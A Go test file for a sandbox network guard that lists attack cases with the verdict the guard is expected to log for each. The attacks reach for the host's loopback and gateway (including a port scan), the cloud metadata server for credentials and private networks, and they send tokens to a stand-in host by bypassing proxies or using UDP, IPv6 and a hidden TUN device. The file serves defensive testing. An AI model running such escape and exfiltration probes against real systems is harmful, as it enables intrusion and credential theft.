//go:build linux

package gauntlet

import (
	"errors"
	"fmt"
	"net"
	"net/netip"
	"os"
	"slices"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"

	"github.com/weir-dev/weir/internal/guard"
)

func reachRows() []Row {
	return slices.Concat(hostRows(), guardedRows(), unlistedRows(), unaskedRows(), otherRows(), lookRows())
}

// audit is the most that weir lets through without a rule.
var audit = []string{"--mode", "audit"}

// guessedHosts are where programs have found the host of other sandboxes.
var guessedHosts = []string{"127.0.0.1", "::1", "0.0.0.0", "::", "10.0.2.2", "192.168.127.254", "host.weir.internal", "host.docker.internal", "host.containers.internal"}

// gateway is the router of the default route.
func gateway() (netip.Addr, error) {
	routes, err := os.ReadFile("/proc/net/route")
	if err != nil {
		return netip.Addr{}, err
	}
	for line := range strings.Lines(string(routes)) {
		f := strings.Fields(line)
		var hex uint32
		if len(f) > 2 && f[1] == "00000000" {
			if _, err := fmt.Sscanf(f[2], "%x", &hex); err == nil {
				return netip.AddrFrom4([4]byte{byte(hex), byte(hex >> 8), byte(hex >> 16), byte(hex >> 24)}), nil
			}
		}
	}
	return netip.Addr{}, errors.New("no default route")
}

// tellAnyHost tries a port of the host by every name and address under which it may be known.
func (a *Attacker) tellAnyHost(port int) error {
	hosts := slices.Clone(guessedHosts)
	if g, err := gateway(); err == nil {
		hosts = append(hosts, g.String())
	}
	var errs []error
	for _, h := range hosts {
		err := a.tellTCP(net.JoinHostPort(h, strconv.Itoa(port)))
		if err == nil {
			return nil
		}
		errs = append(errs, err)
	}
	return errors.Join(errs...)
}

// hostRows reach for the machine that the sandbox runs on.
func hostRows() []Row {
	otherPort := []string{"--mode", "enforce", "--allow", "shop.example", "--host-port", strconv.Itoa(HostAnyPort)}
	return []Row{
		{
			ID: "reach/host-loopback", Vector: "a service on the host's loopback, by every name and address of the host", Right: "127.0.0.1 is the sandbox's own, the gateway is guarded, in audit mode too",
			Source: "rootlesskit #612; slirp4netns(1); CVE-2021-4024", Rules: audit, Lifted: []string{"--host-port", strconv.Itoa(HostLoopbackPort)},
			Attack: func(a *Attacker) error { return a.tellAnyHost(HostLoopbackPort) }, Harm: Heard,
			Record: []string{"network-connect verdict=deny reason=guard"},
		},
		{
			ID: "reach/host-port-beside", Vector: "another port of the host's loopback than the one that was given", Right: "one port is one port",
			Source: "nono PR #1631", Rules: otherPort, Lifted: []string{"--host-port", strconv.Itoa(HostLoopbackPort)},
			Attack: func(a *Attacker) error { return a.tellAnyHost(HostLoopbackPort) }, Harm: Heard,
			Record: []string{"network-connect verdict=deny reason=guard"},
		},
		{
			ID: "reach/gateway-ports", Vector: "an interface of the sandbox itself on the gateway: port scan", Right: "the gateway answers DNS and nothing else",
			Source: "CVE-2021-4024 (podman); gvisor-tap-vsock #714", Rules: audit,
			Attack: (*Attacker).scanGateway, Harm: Heard,
		},
		{
			ID: "reach/host-address", Vector: "the host by the address it has on its own network", Right: "the host's addresses are guarded",
			Source: "smokescreen #282; security.md 2.4", Rules: audit, Lifted: []string{"--allow", "192.0.2.2:" + strconv.Itoa(HostAnyPort)},
			Attack: func(a *Attacker) error { return a.tellTCP(fmt.Sprintf("192.0.2.2:%d", HostAnyPort)) }, Harm: Heard,
			Record: []string{"network-connect verdict=deny dest_ip=192.0.2.2 reason=guard"},
		},
		{
			ID: "reach/host-address6", Vector: "the host by its IPv6 address", Right: "IPv6 is judged like IPv4",
			Source: "gh-aw-firewall #245", Rules: audit, Lifted: []string{"--allow", fmt.Sprintf("[2001:db8::2]:%d", HostAnyPort)},
			Attack: func(a *Attacker) error { return a.tellTCP(fmt.Sprintf("[2001:db8::2]:%d", HostAnyPort)) }, Harm: Heard,
			Record: []string{"network-connect verdict=deny dest_ip=2001:db8::2 reason=guard"},
		},
		{
			ID: "reach/new-host-address", Vector: "the host by an address that it was given after the start", Right: "guarded, once weir has looked at the host's addresses again",
			Source: "security.md 2.4 (watch netlink)", Rules: audit,
			Prepare: func(s *Stage) error { return s.addHostAddress("192.0.2.77/32") },
			During:  addAddressWhenReady,
			Attack:  (*Attacker).tellNewAddress, Harm: Heard,
			Record: []string{"network-connect verdict=deny dest_ip=192.0.2.77 reason=guard"},
		},
		{
			ID: "reach/abstract-socket", Vector: "an abstract UNIX socket of the host", Right: "its names belong to another network namespace",
			Source:  "CVE-2020-15257 (containerd); bubblewrap #330",
			Prepare: func(s *Stage) error { return listenAbstract(s, "unix") },
			Attack: func(a *Attacker) error {
				c, err := dial("unix", a.Args["socket"])
				if err != nil {
					return err
				}
				defer c.Close()
				return tell(c, a.Token)
			},
			Harm: Heard,
		},
	}
}

// scanGateway looks for anything that listens on the router's address, beside DNS.
func (a *Attacker) scanGateway() error {
	g, err := gateway()
	if err != nil {
		return err
	}
	ports := []uint16{1, 22, 80, 443, 445, 1080, 2375, 2376, 3000, 3128, 5000, 6443, 7007, 7009, 7777, 8000, 8001, 8080, 8443, 9000, 9090, 10250, 44444}
	answered := make(chan error, len(ports))
	for _, p := range ports {
		go func() { answered <- a.tellTCP(at(g, p)) }()
	}
	// What takes a connection and says nothing is not worth the whole of patience.
	late, found := time.After(patience/5), errors.New("nothing answers")
	for range ports {
		select {
		case err := <-answered:
			if err == nil {
				found = nil
			}
		case <-late:
			return found
		}
	}
	return found
}

// guardedRows reach for addresses that no rule but one for exactly them opens, in any mode.
func guardedRows() []Row {
	guarded := func(name, vector, source string, target netip.Addr, reason string) Row {
		return Row{
			ID: "reach/" + name, Vector: vector, Right: "denied, in audit mode too", Source: source,
			Rules: audit, Lifted: []string{"--allow", fmt.Sprintf("%s:80", bracketed(target))},
			Attack: func(a *Attacker) error { return a.tellTCP(at(target, 80)) }, Harm: Heard,
			Record: []string{fmt.Sprintf("network-connect verdict=deny dest_ip=%s reason=%s", target, reason)},
		}
	}
	return []Row{
		guarded("metadata", "the cloud's metadata server, for the machine's credentials", "security.md 2.4; obscura #816", Meta, "guard"),
		guarded("metadata-elsewhere", "a metadata server that is not link-local", "security.md 2.4", MetaAlibaba, "guard"),
		guarded("metadata6", "the metadata server over IPv6", "security.md 2.4", Meta6, "guard"),
		guarded("link-local", "a neighbour of the host by a link-local address", "security.md 2.4", LinkLocal, "guard"),
		guarded("private", "a database in the host's private network", "srt #65; ToolHive #4395; iron-proxy upstream_deny_cidrs", Private, "private"),
	}
}

func bracketed(a netip.Addr) string {
	if a.Is6() {
		return "[" + a.String() + "]"
	}
	return a.String()
}

// unlistedRows reach for a server of the internet that no rule names, by the transports that filters forget.
func unlistedRows() []Row {
	return []Row{
		{
			ID: "reach/no-proxy", Vector: "dial an address, with no regard to proxy settings and no lookup before", Right: "every connection is judged, whatever the program knows of proxies",
			Source: "claude-agent-sdk-typescript #396; claude-code #37782; OpenShell PR #269; lastlight PR #64; Daytona #4463; nono #756; boundary #189; iron-proxy README",
			Lifted: []string{"--allow", Evil.String() + ":5432"},
			Attack: func(a *Attacker) error { return a.tellTCP(at(Evil, 5432)) }, Harm: Heard,
			Record: []string{"network-connect verdict=deny dest_ip=203.0.113.66 reason=default"},
		},
		{
			ID: "reach/udp", Vector: "datagrams to a server that nobody allowed", Right: "UDP is judged like TCP",
			Source: "nono #756; boundary (networking_host.go); GHSA-cpmj-h4f6-r6pq (harden-runner)",
			Lifted: []string{"--allow", Evil.String() + ":7/udp"},
			Attack: func(a *Attacker) error { return a.tellUDP(at(Evil, 7)) }, Harm: Heard,
			Record: []string{"network-connect verdict=deny dest_ip=203.0.113.66 protocol=udp"},
		},
		{
			ID: "reach/ipv6", Vector: "a server that nobody allowed, over IPv6", Right: "IPv6 is judged like IPv4",
			Source: "gh-aw-firewall #245; httpjail (table ip)",
			Lifted: []string{"--allow", "[" + Evil6.String() + "]:80"},
			Attack: func(a *Attacker) error { return a.tellTCP(at(Evil6, 80)) }, Harm: Heard,
			Record: []string{"network-connect verdict=deny dest_ip=" + Evil6.String()},
		},
		{
			ID: "reach/no-tun", Vector: "start where there is no TUN device, and hope that rules are off", Right: "the same rules hold on the other link",
			Source: "greywall (TUN fallback)", Alone: true, Lifted: []string{"--allow", Evil.String() + ":80"},
			Prepare: func(s *Stage) error {
				if _, err := os.Stat("/dev/net/tun"); err != nil {
					return nil // there is none to hide
				}
				return s.mount("/dev/null", "/dev/net/tun", "", unix.MS_BIND)
			},
			Attack: func(a *Attacker) error { return a.tellTCP(at(Evil, 80)) }, Harm: Heard,
			Record: []string{"sandbox-start link=veth", "network-connect verdict=deny dest_ip=203.0.113.66"},
		},
	}
}

// addHostAddress plans another address for the host, and how long the attacker waits for it.
func (s *Stage) addHostAddress(cidr string) error {
	s.Args["address"], s.Args["ready"], s.Args["wait"] = cidr, "ready-"+s.Token[1:], settle.String()
	if s.Inside {
		s.Args["wait"] = (guard.HostRefresh + settle).String()
	}
	s.Defer(func() { s.hostAddress(false) })
	return nil
}

// tellNewAddress says that it is ready, waits for the host to have its new address, and talks to that.
func (a *Attacker) tellNewAddress() error {
	c, err := dial("tcp", at(Shop, 80))
	if err != nil {
		return err
	}
	defer c.Close()
	if err := tell(c, a.Args["ready"]+"\n"); err != nil {
		return err
	}
	wait, err := time.ParseDuration(a.Args["wait"])
	if err != nil {
		return err
	}
	time.Sleep(wait)
	address, _, _ := strings.Cut(a.Args["address"], "/")
	return a.tellTCP(fmt.Sprintf("%s:%d", address, HostAnyPort))
}
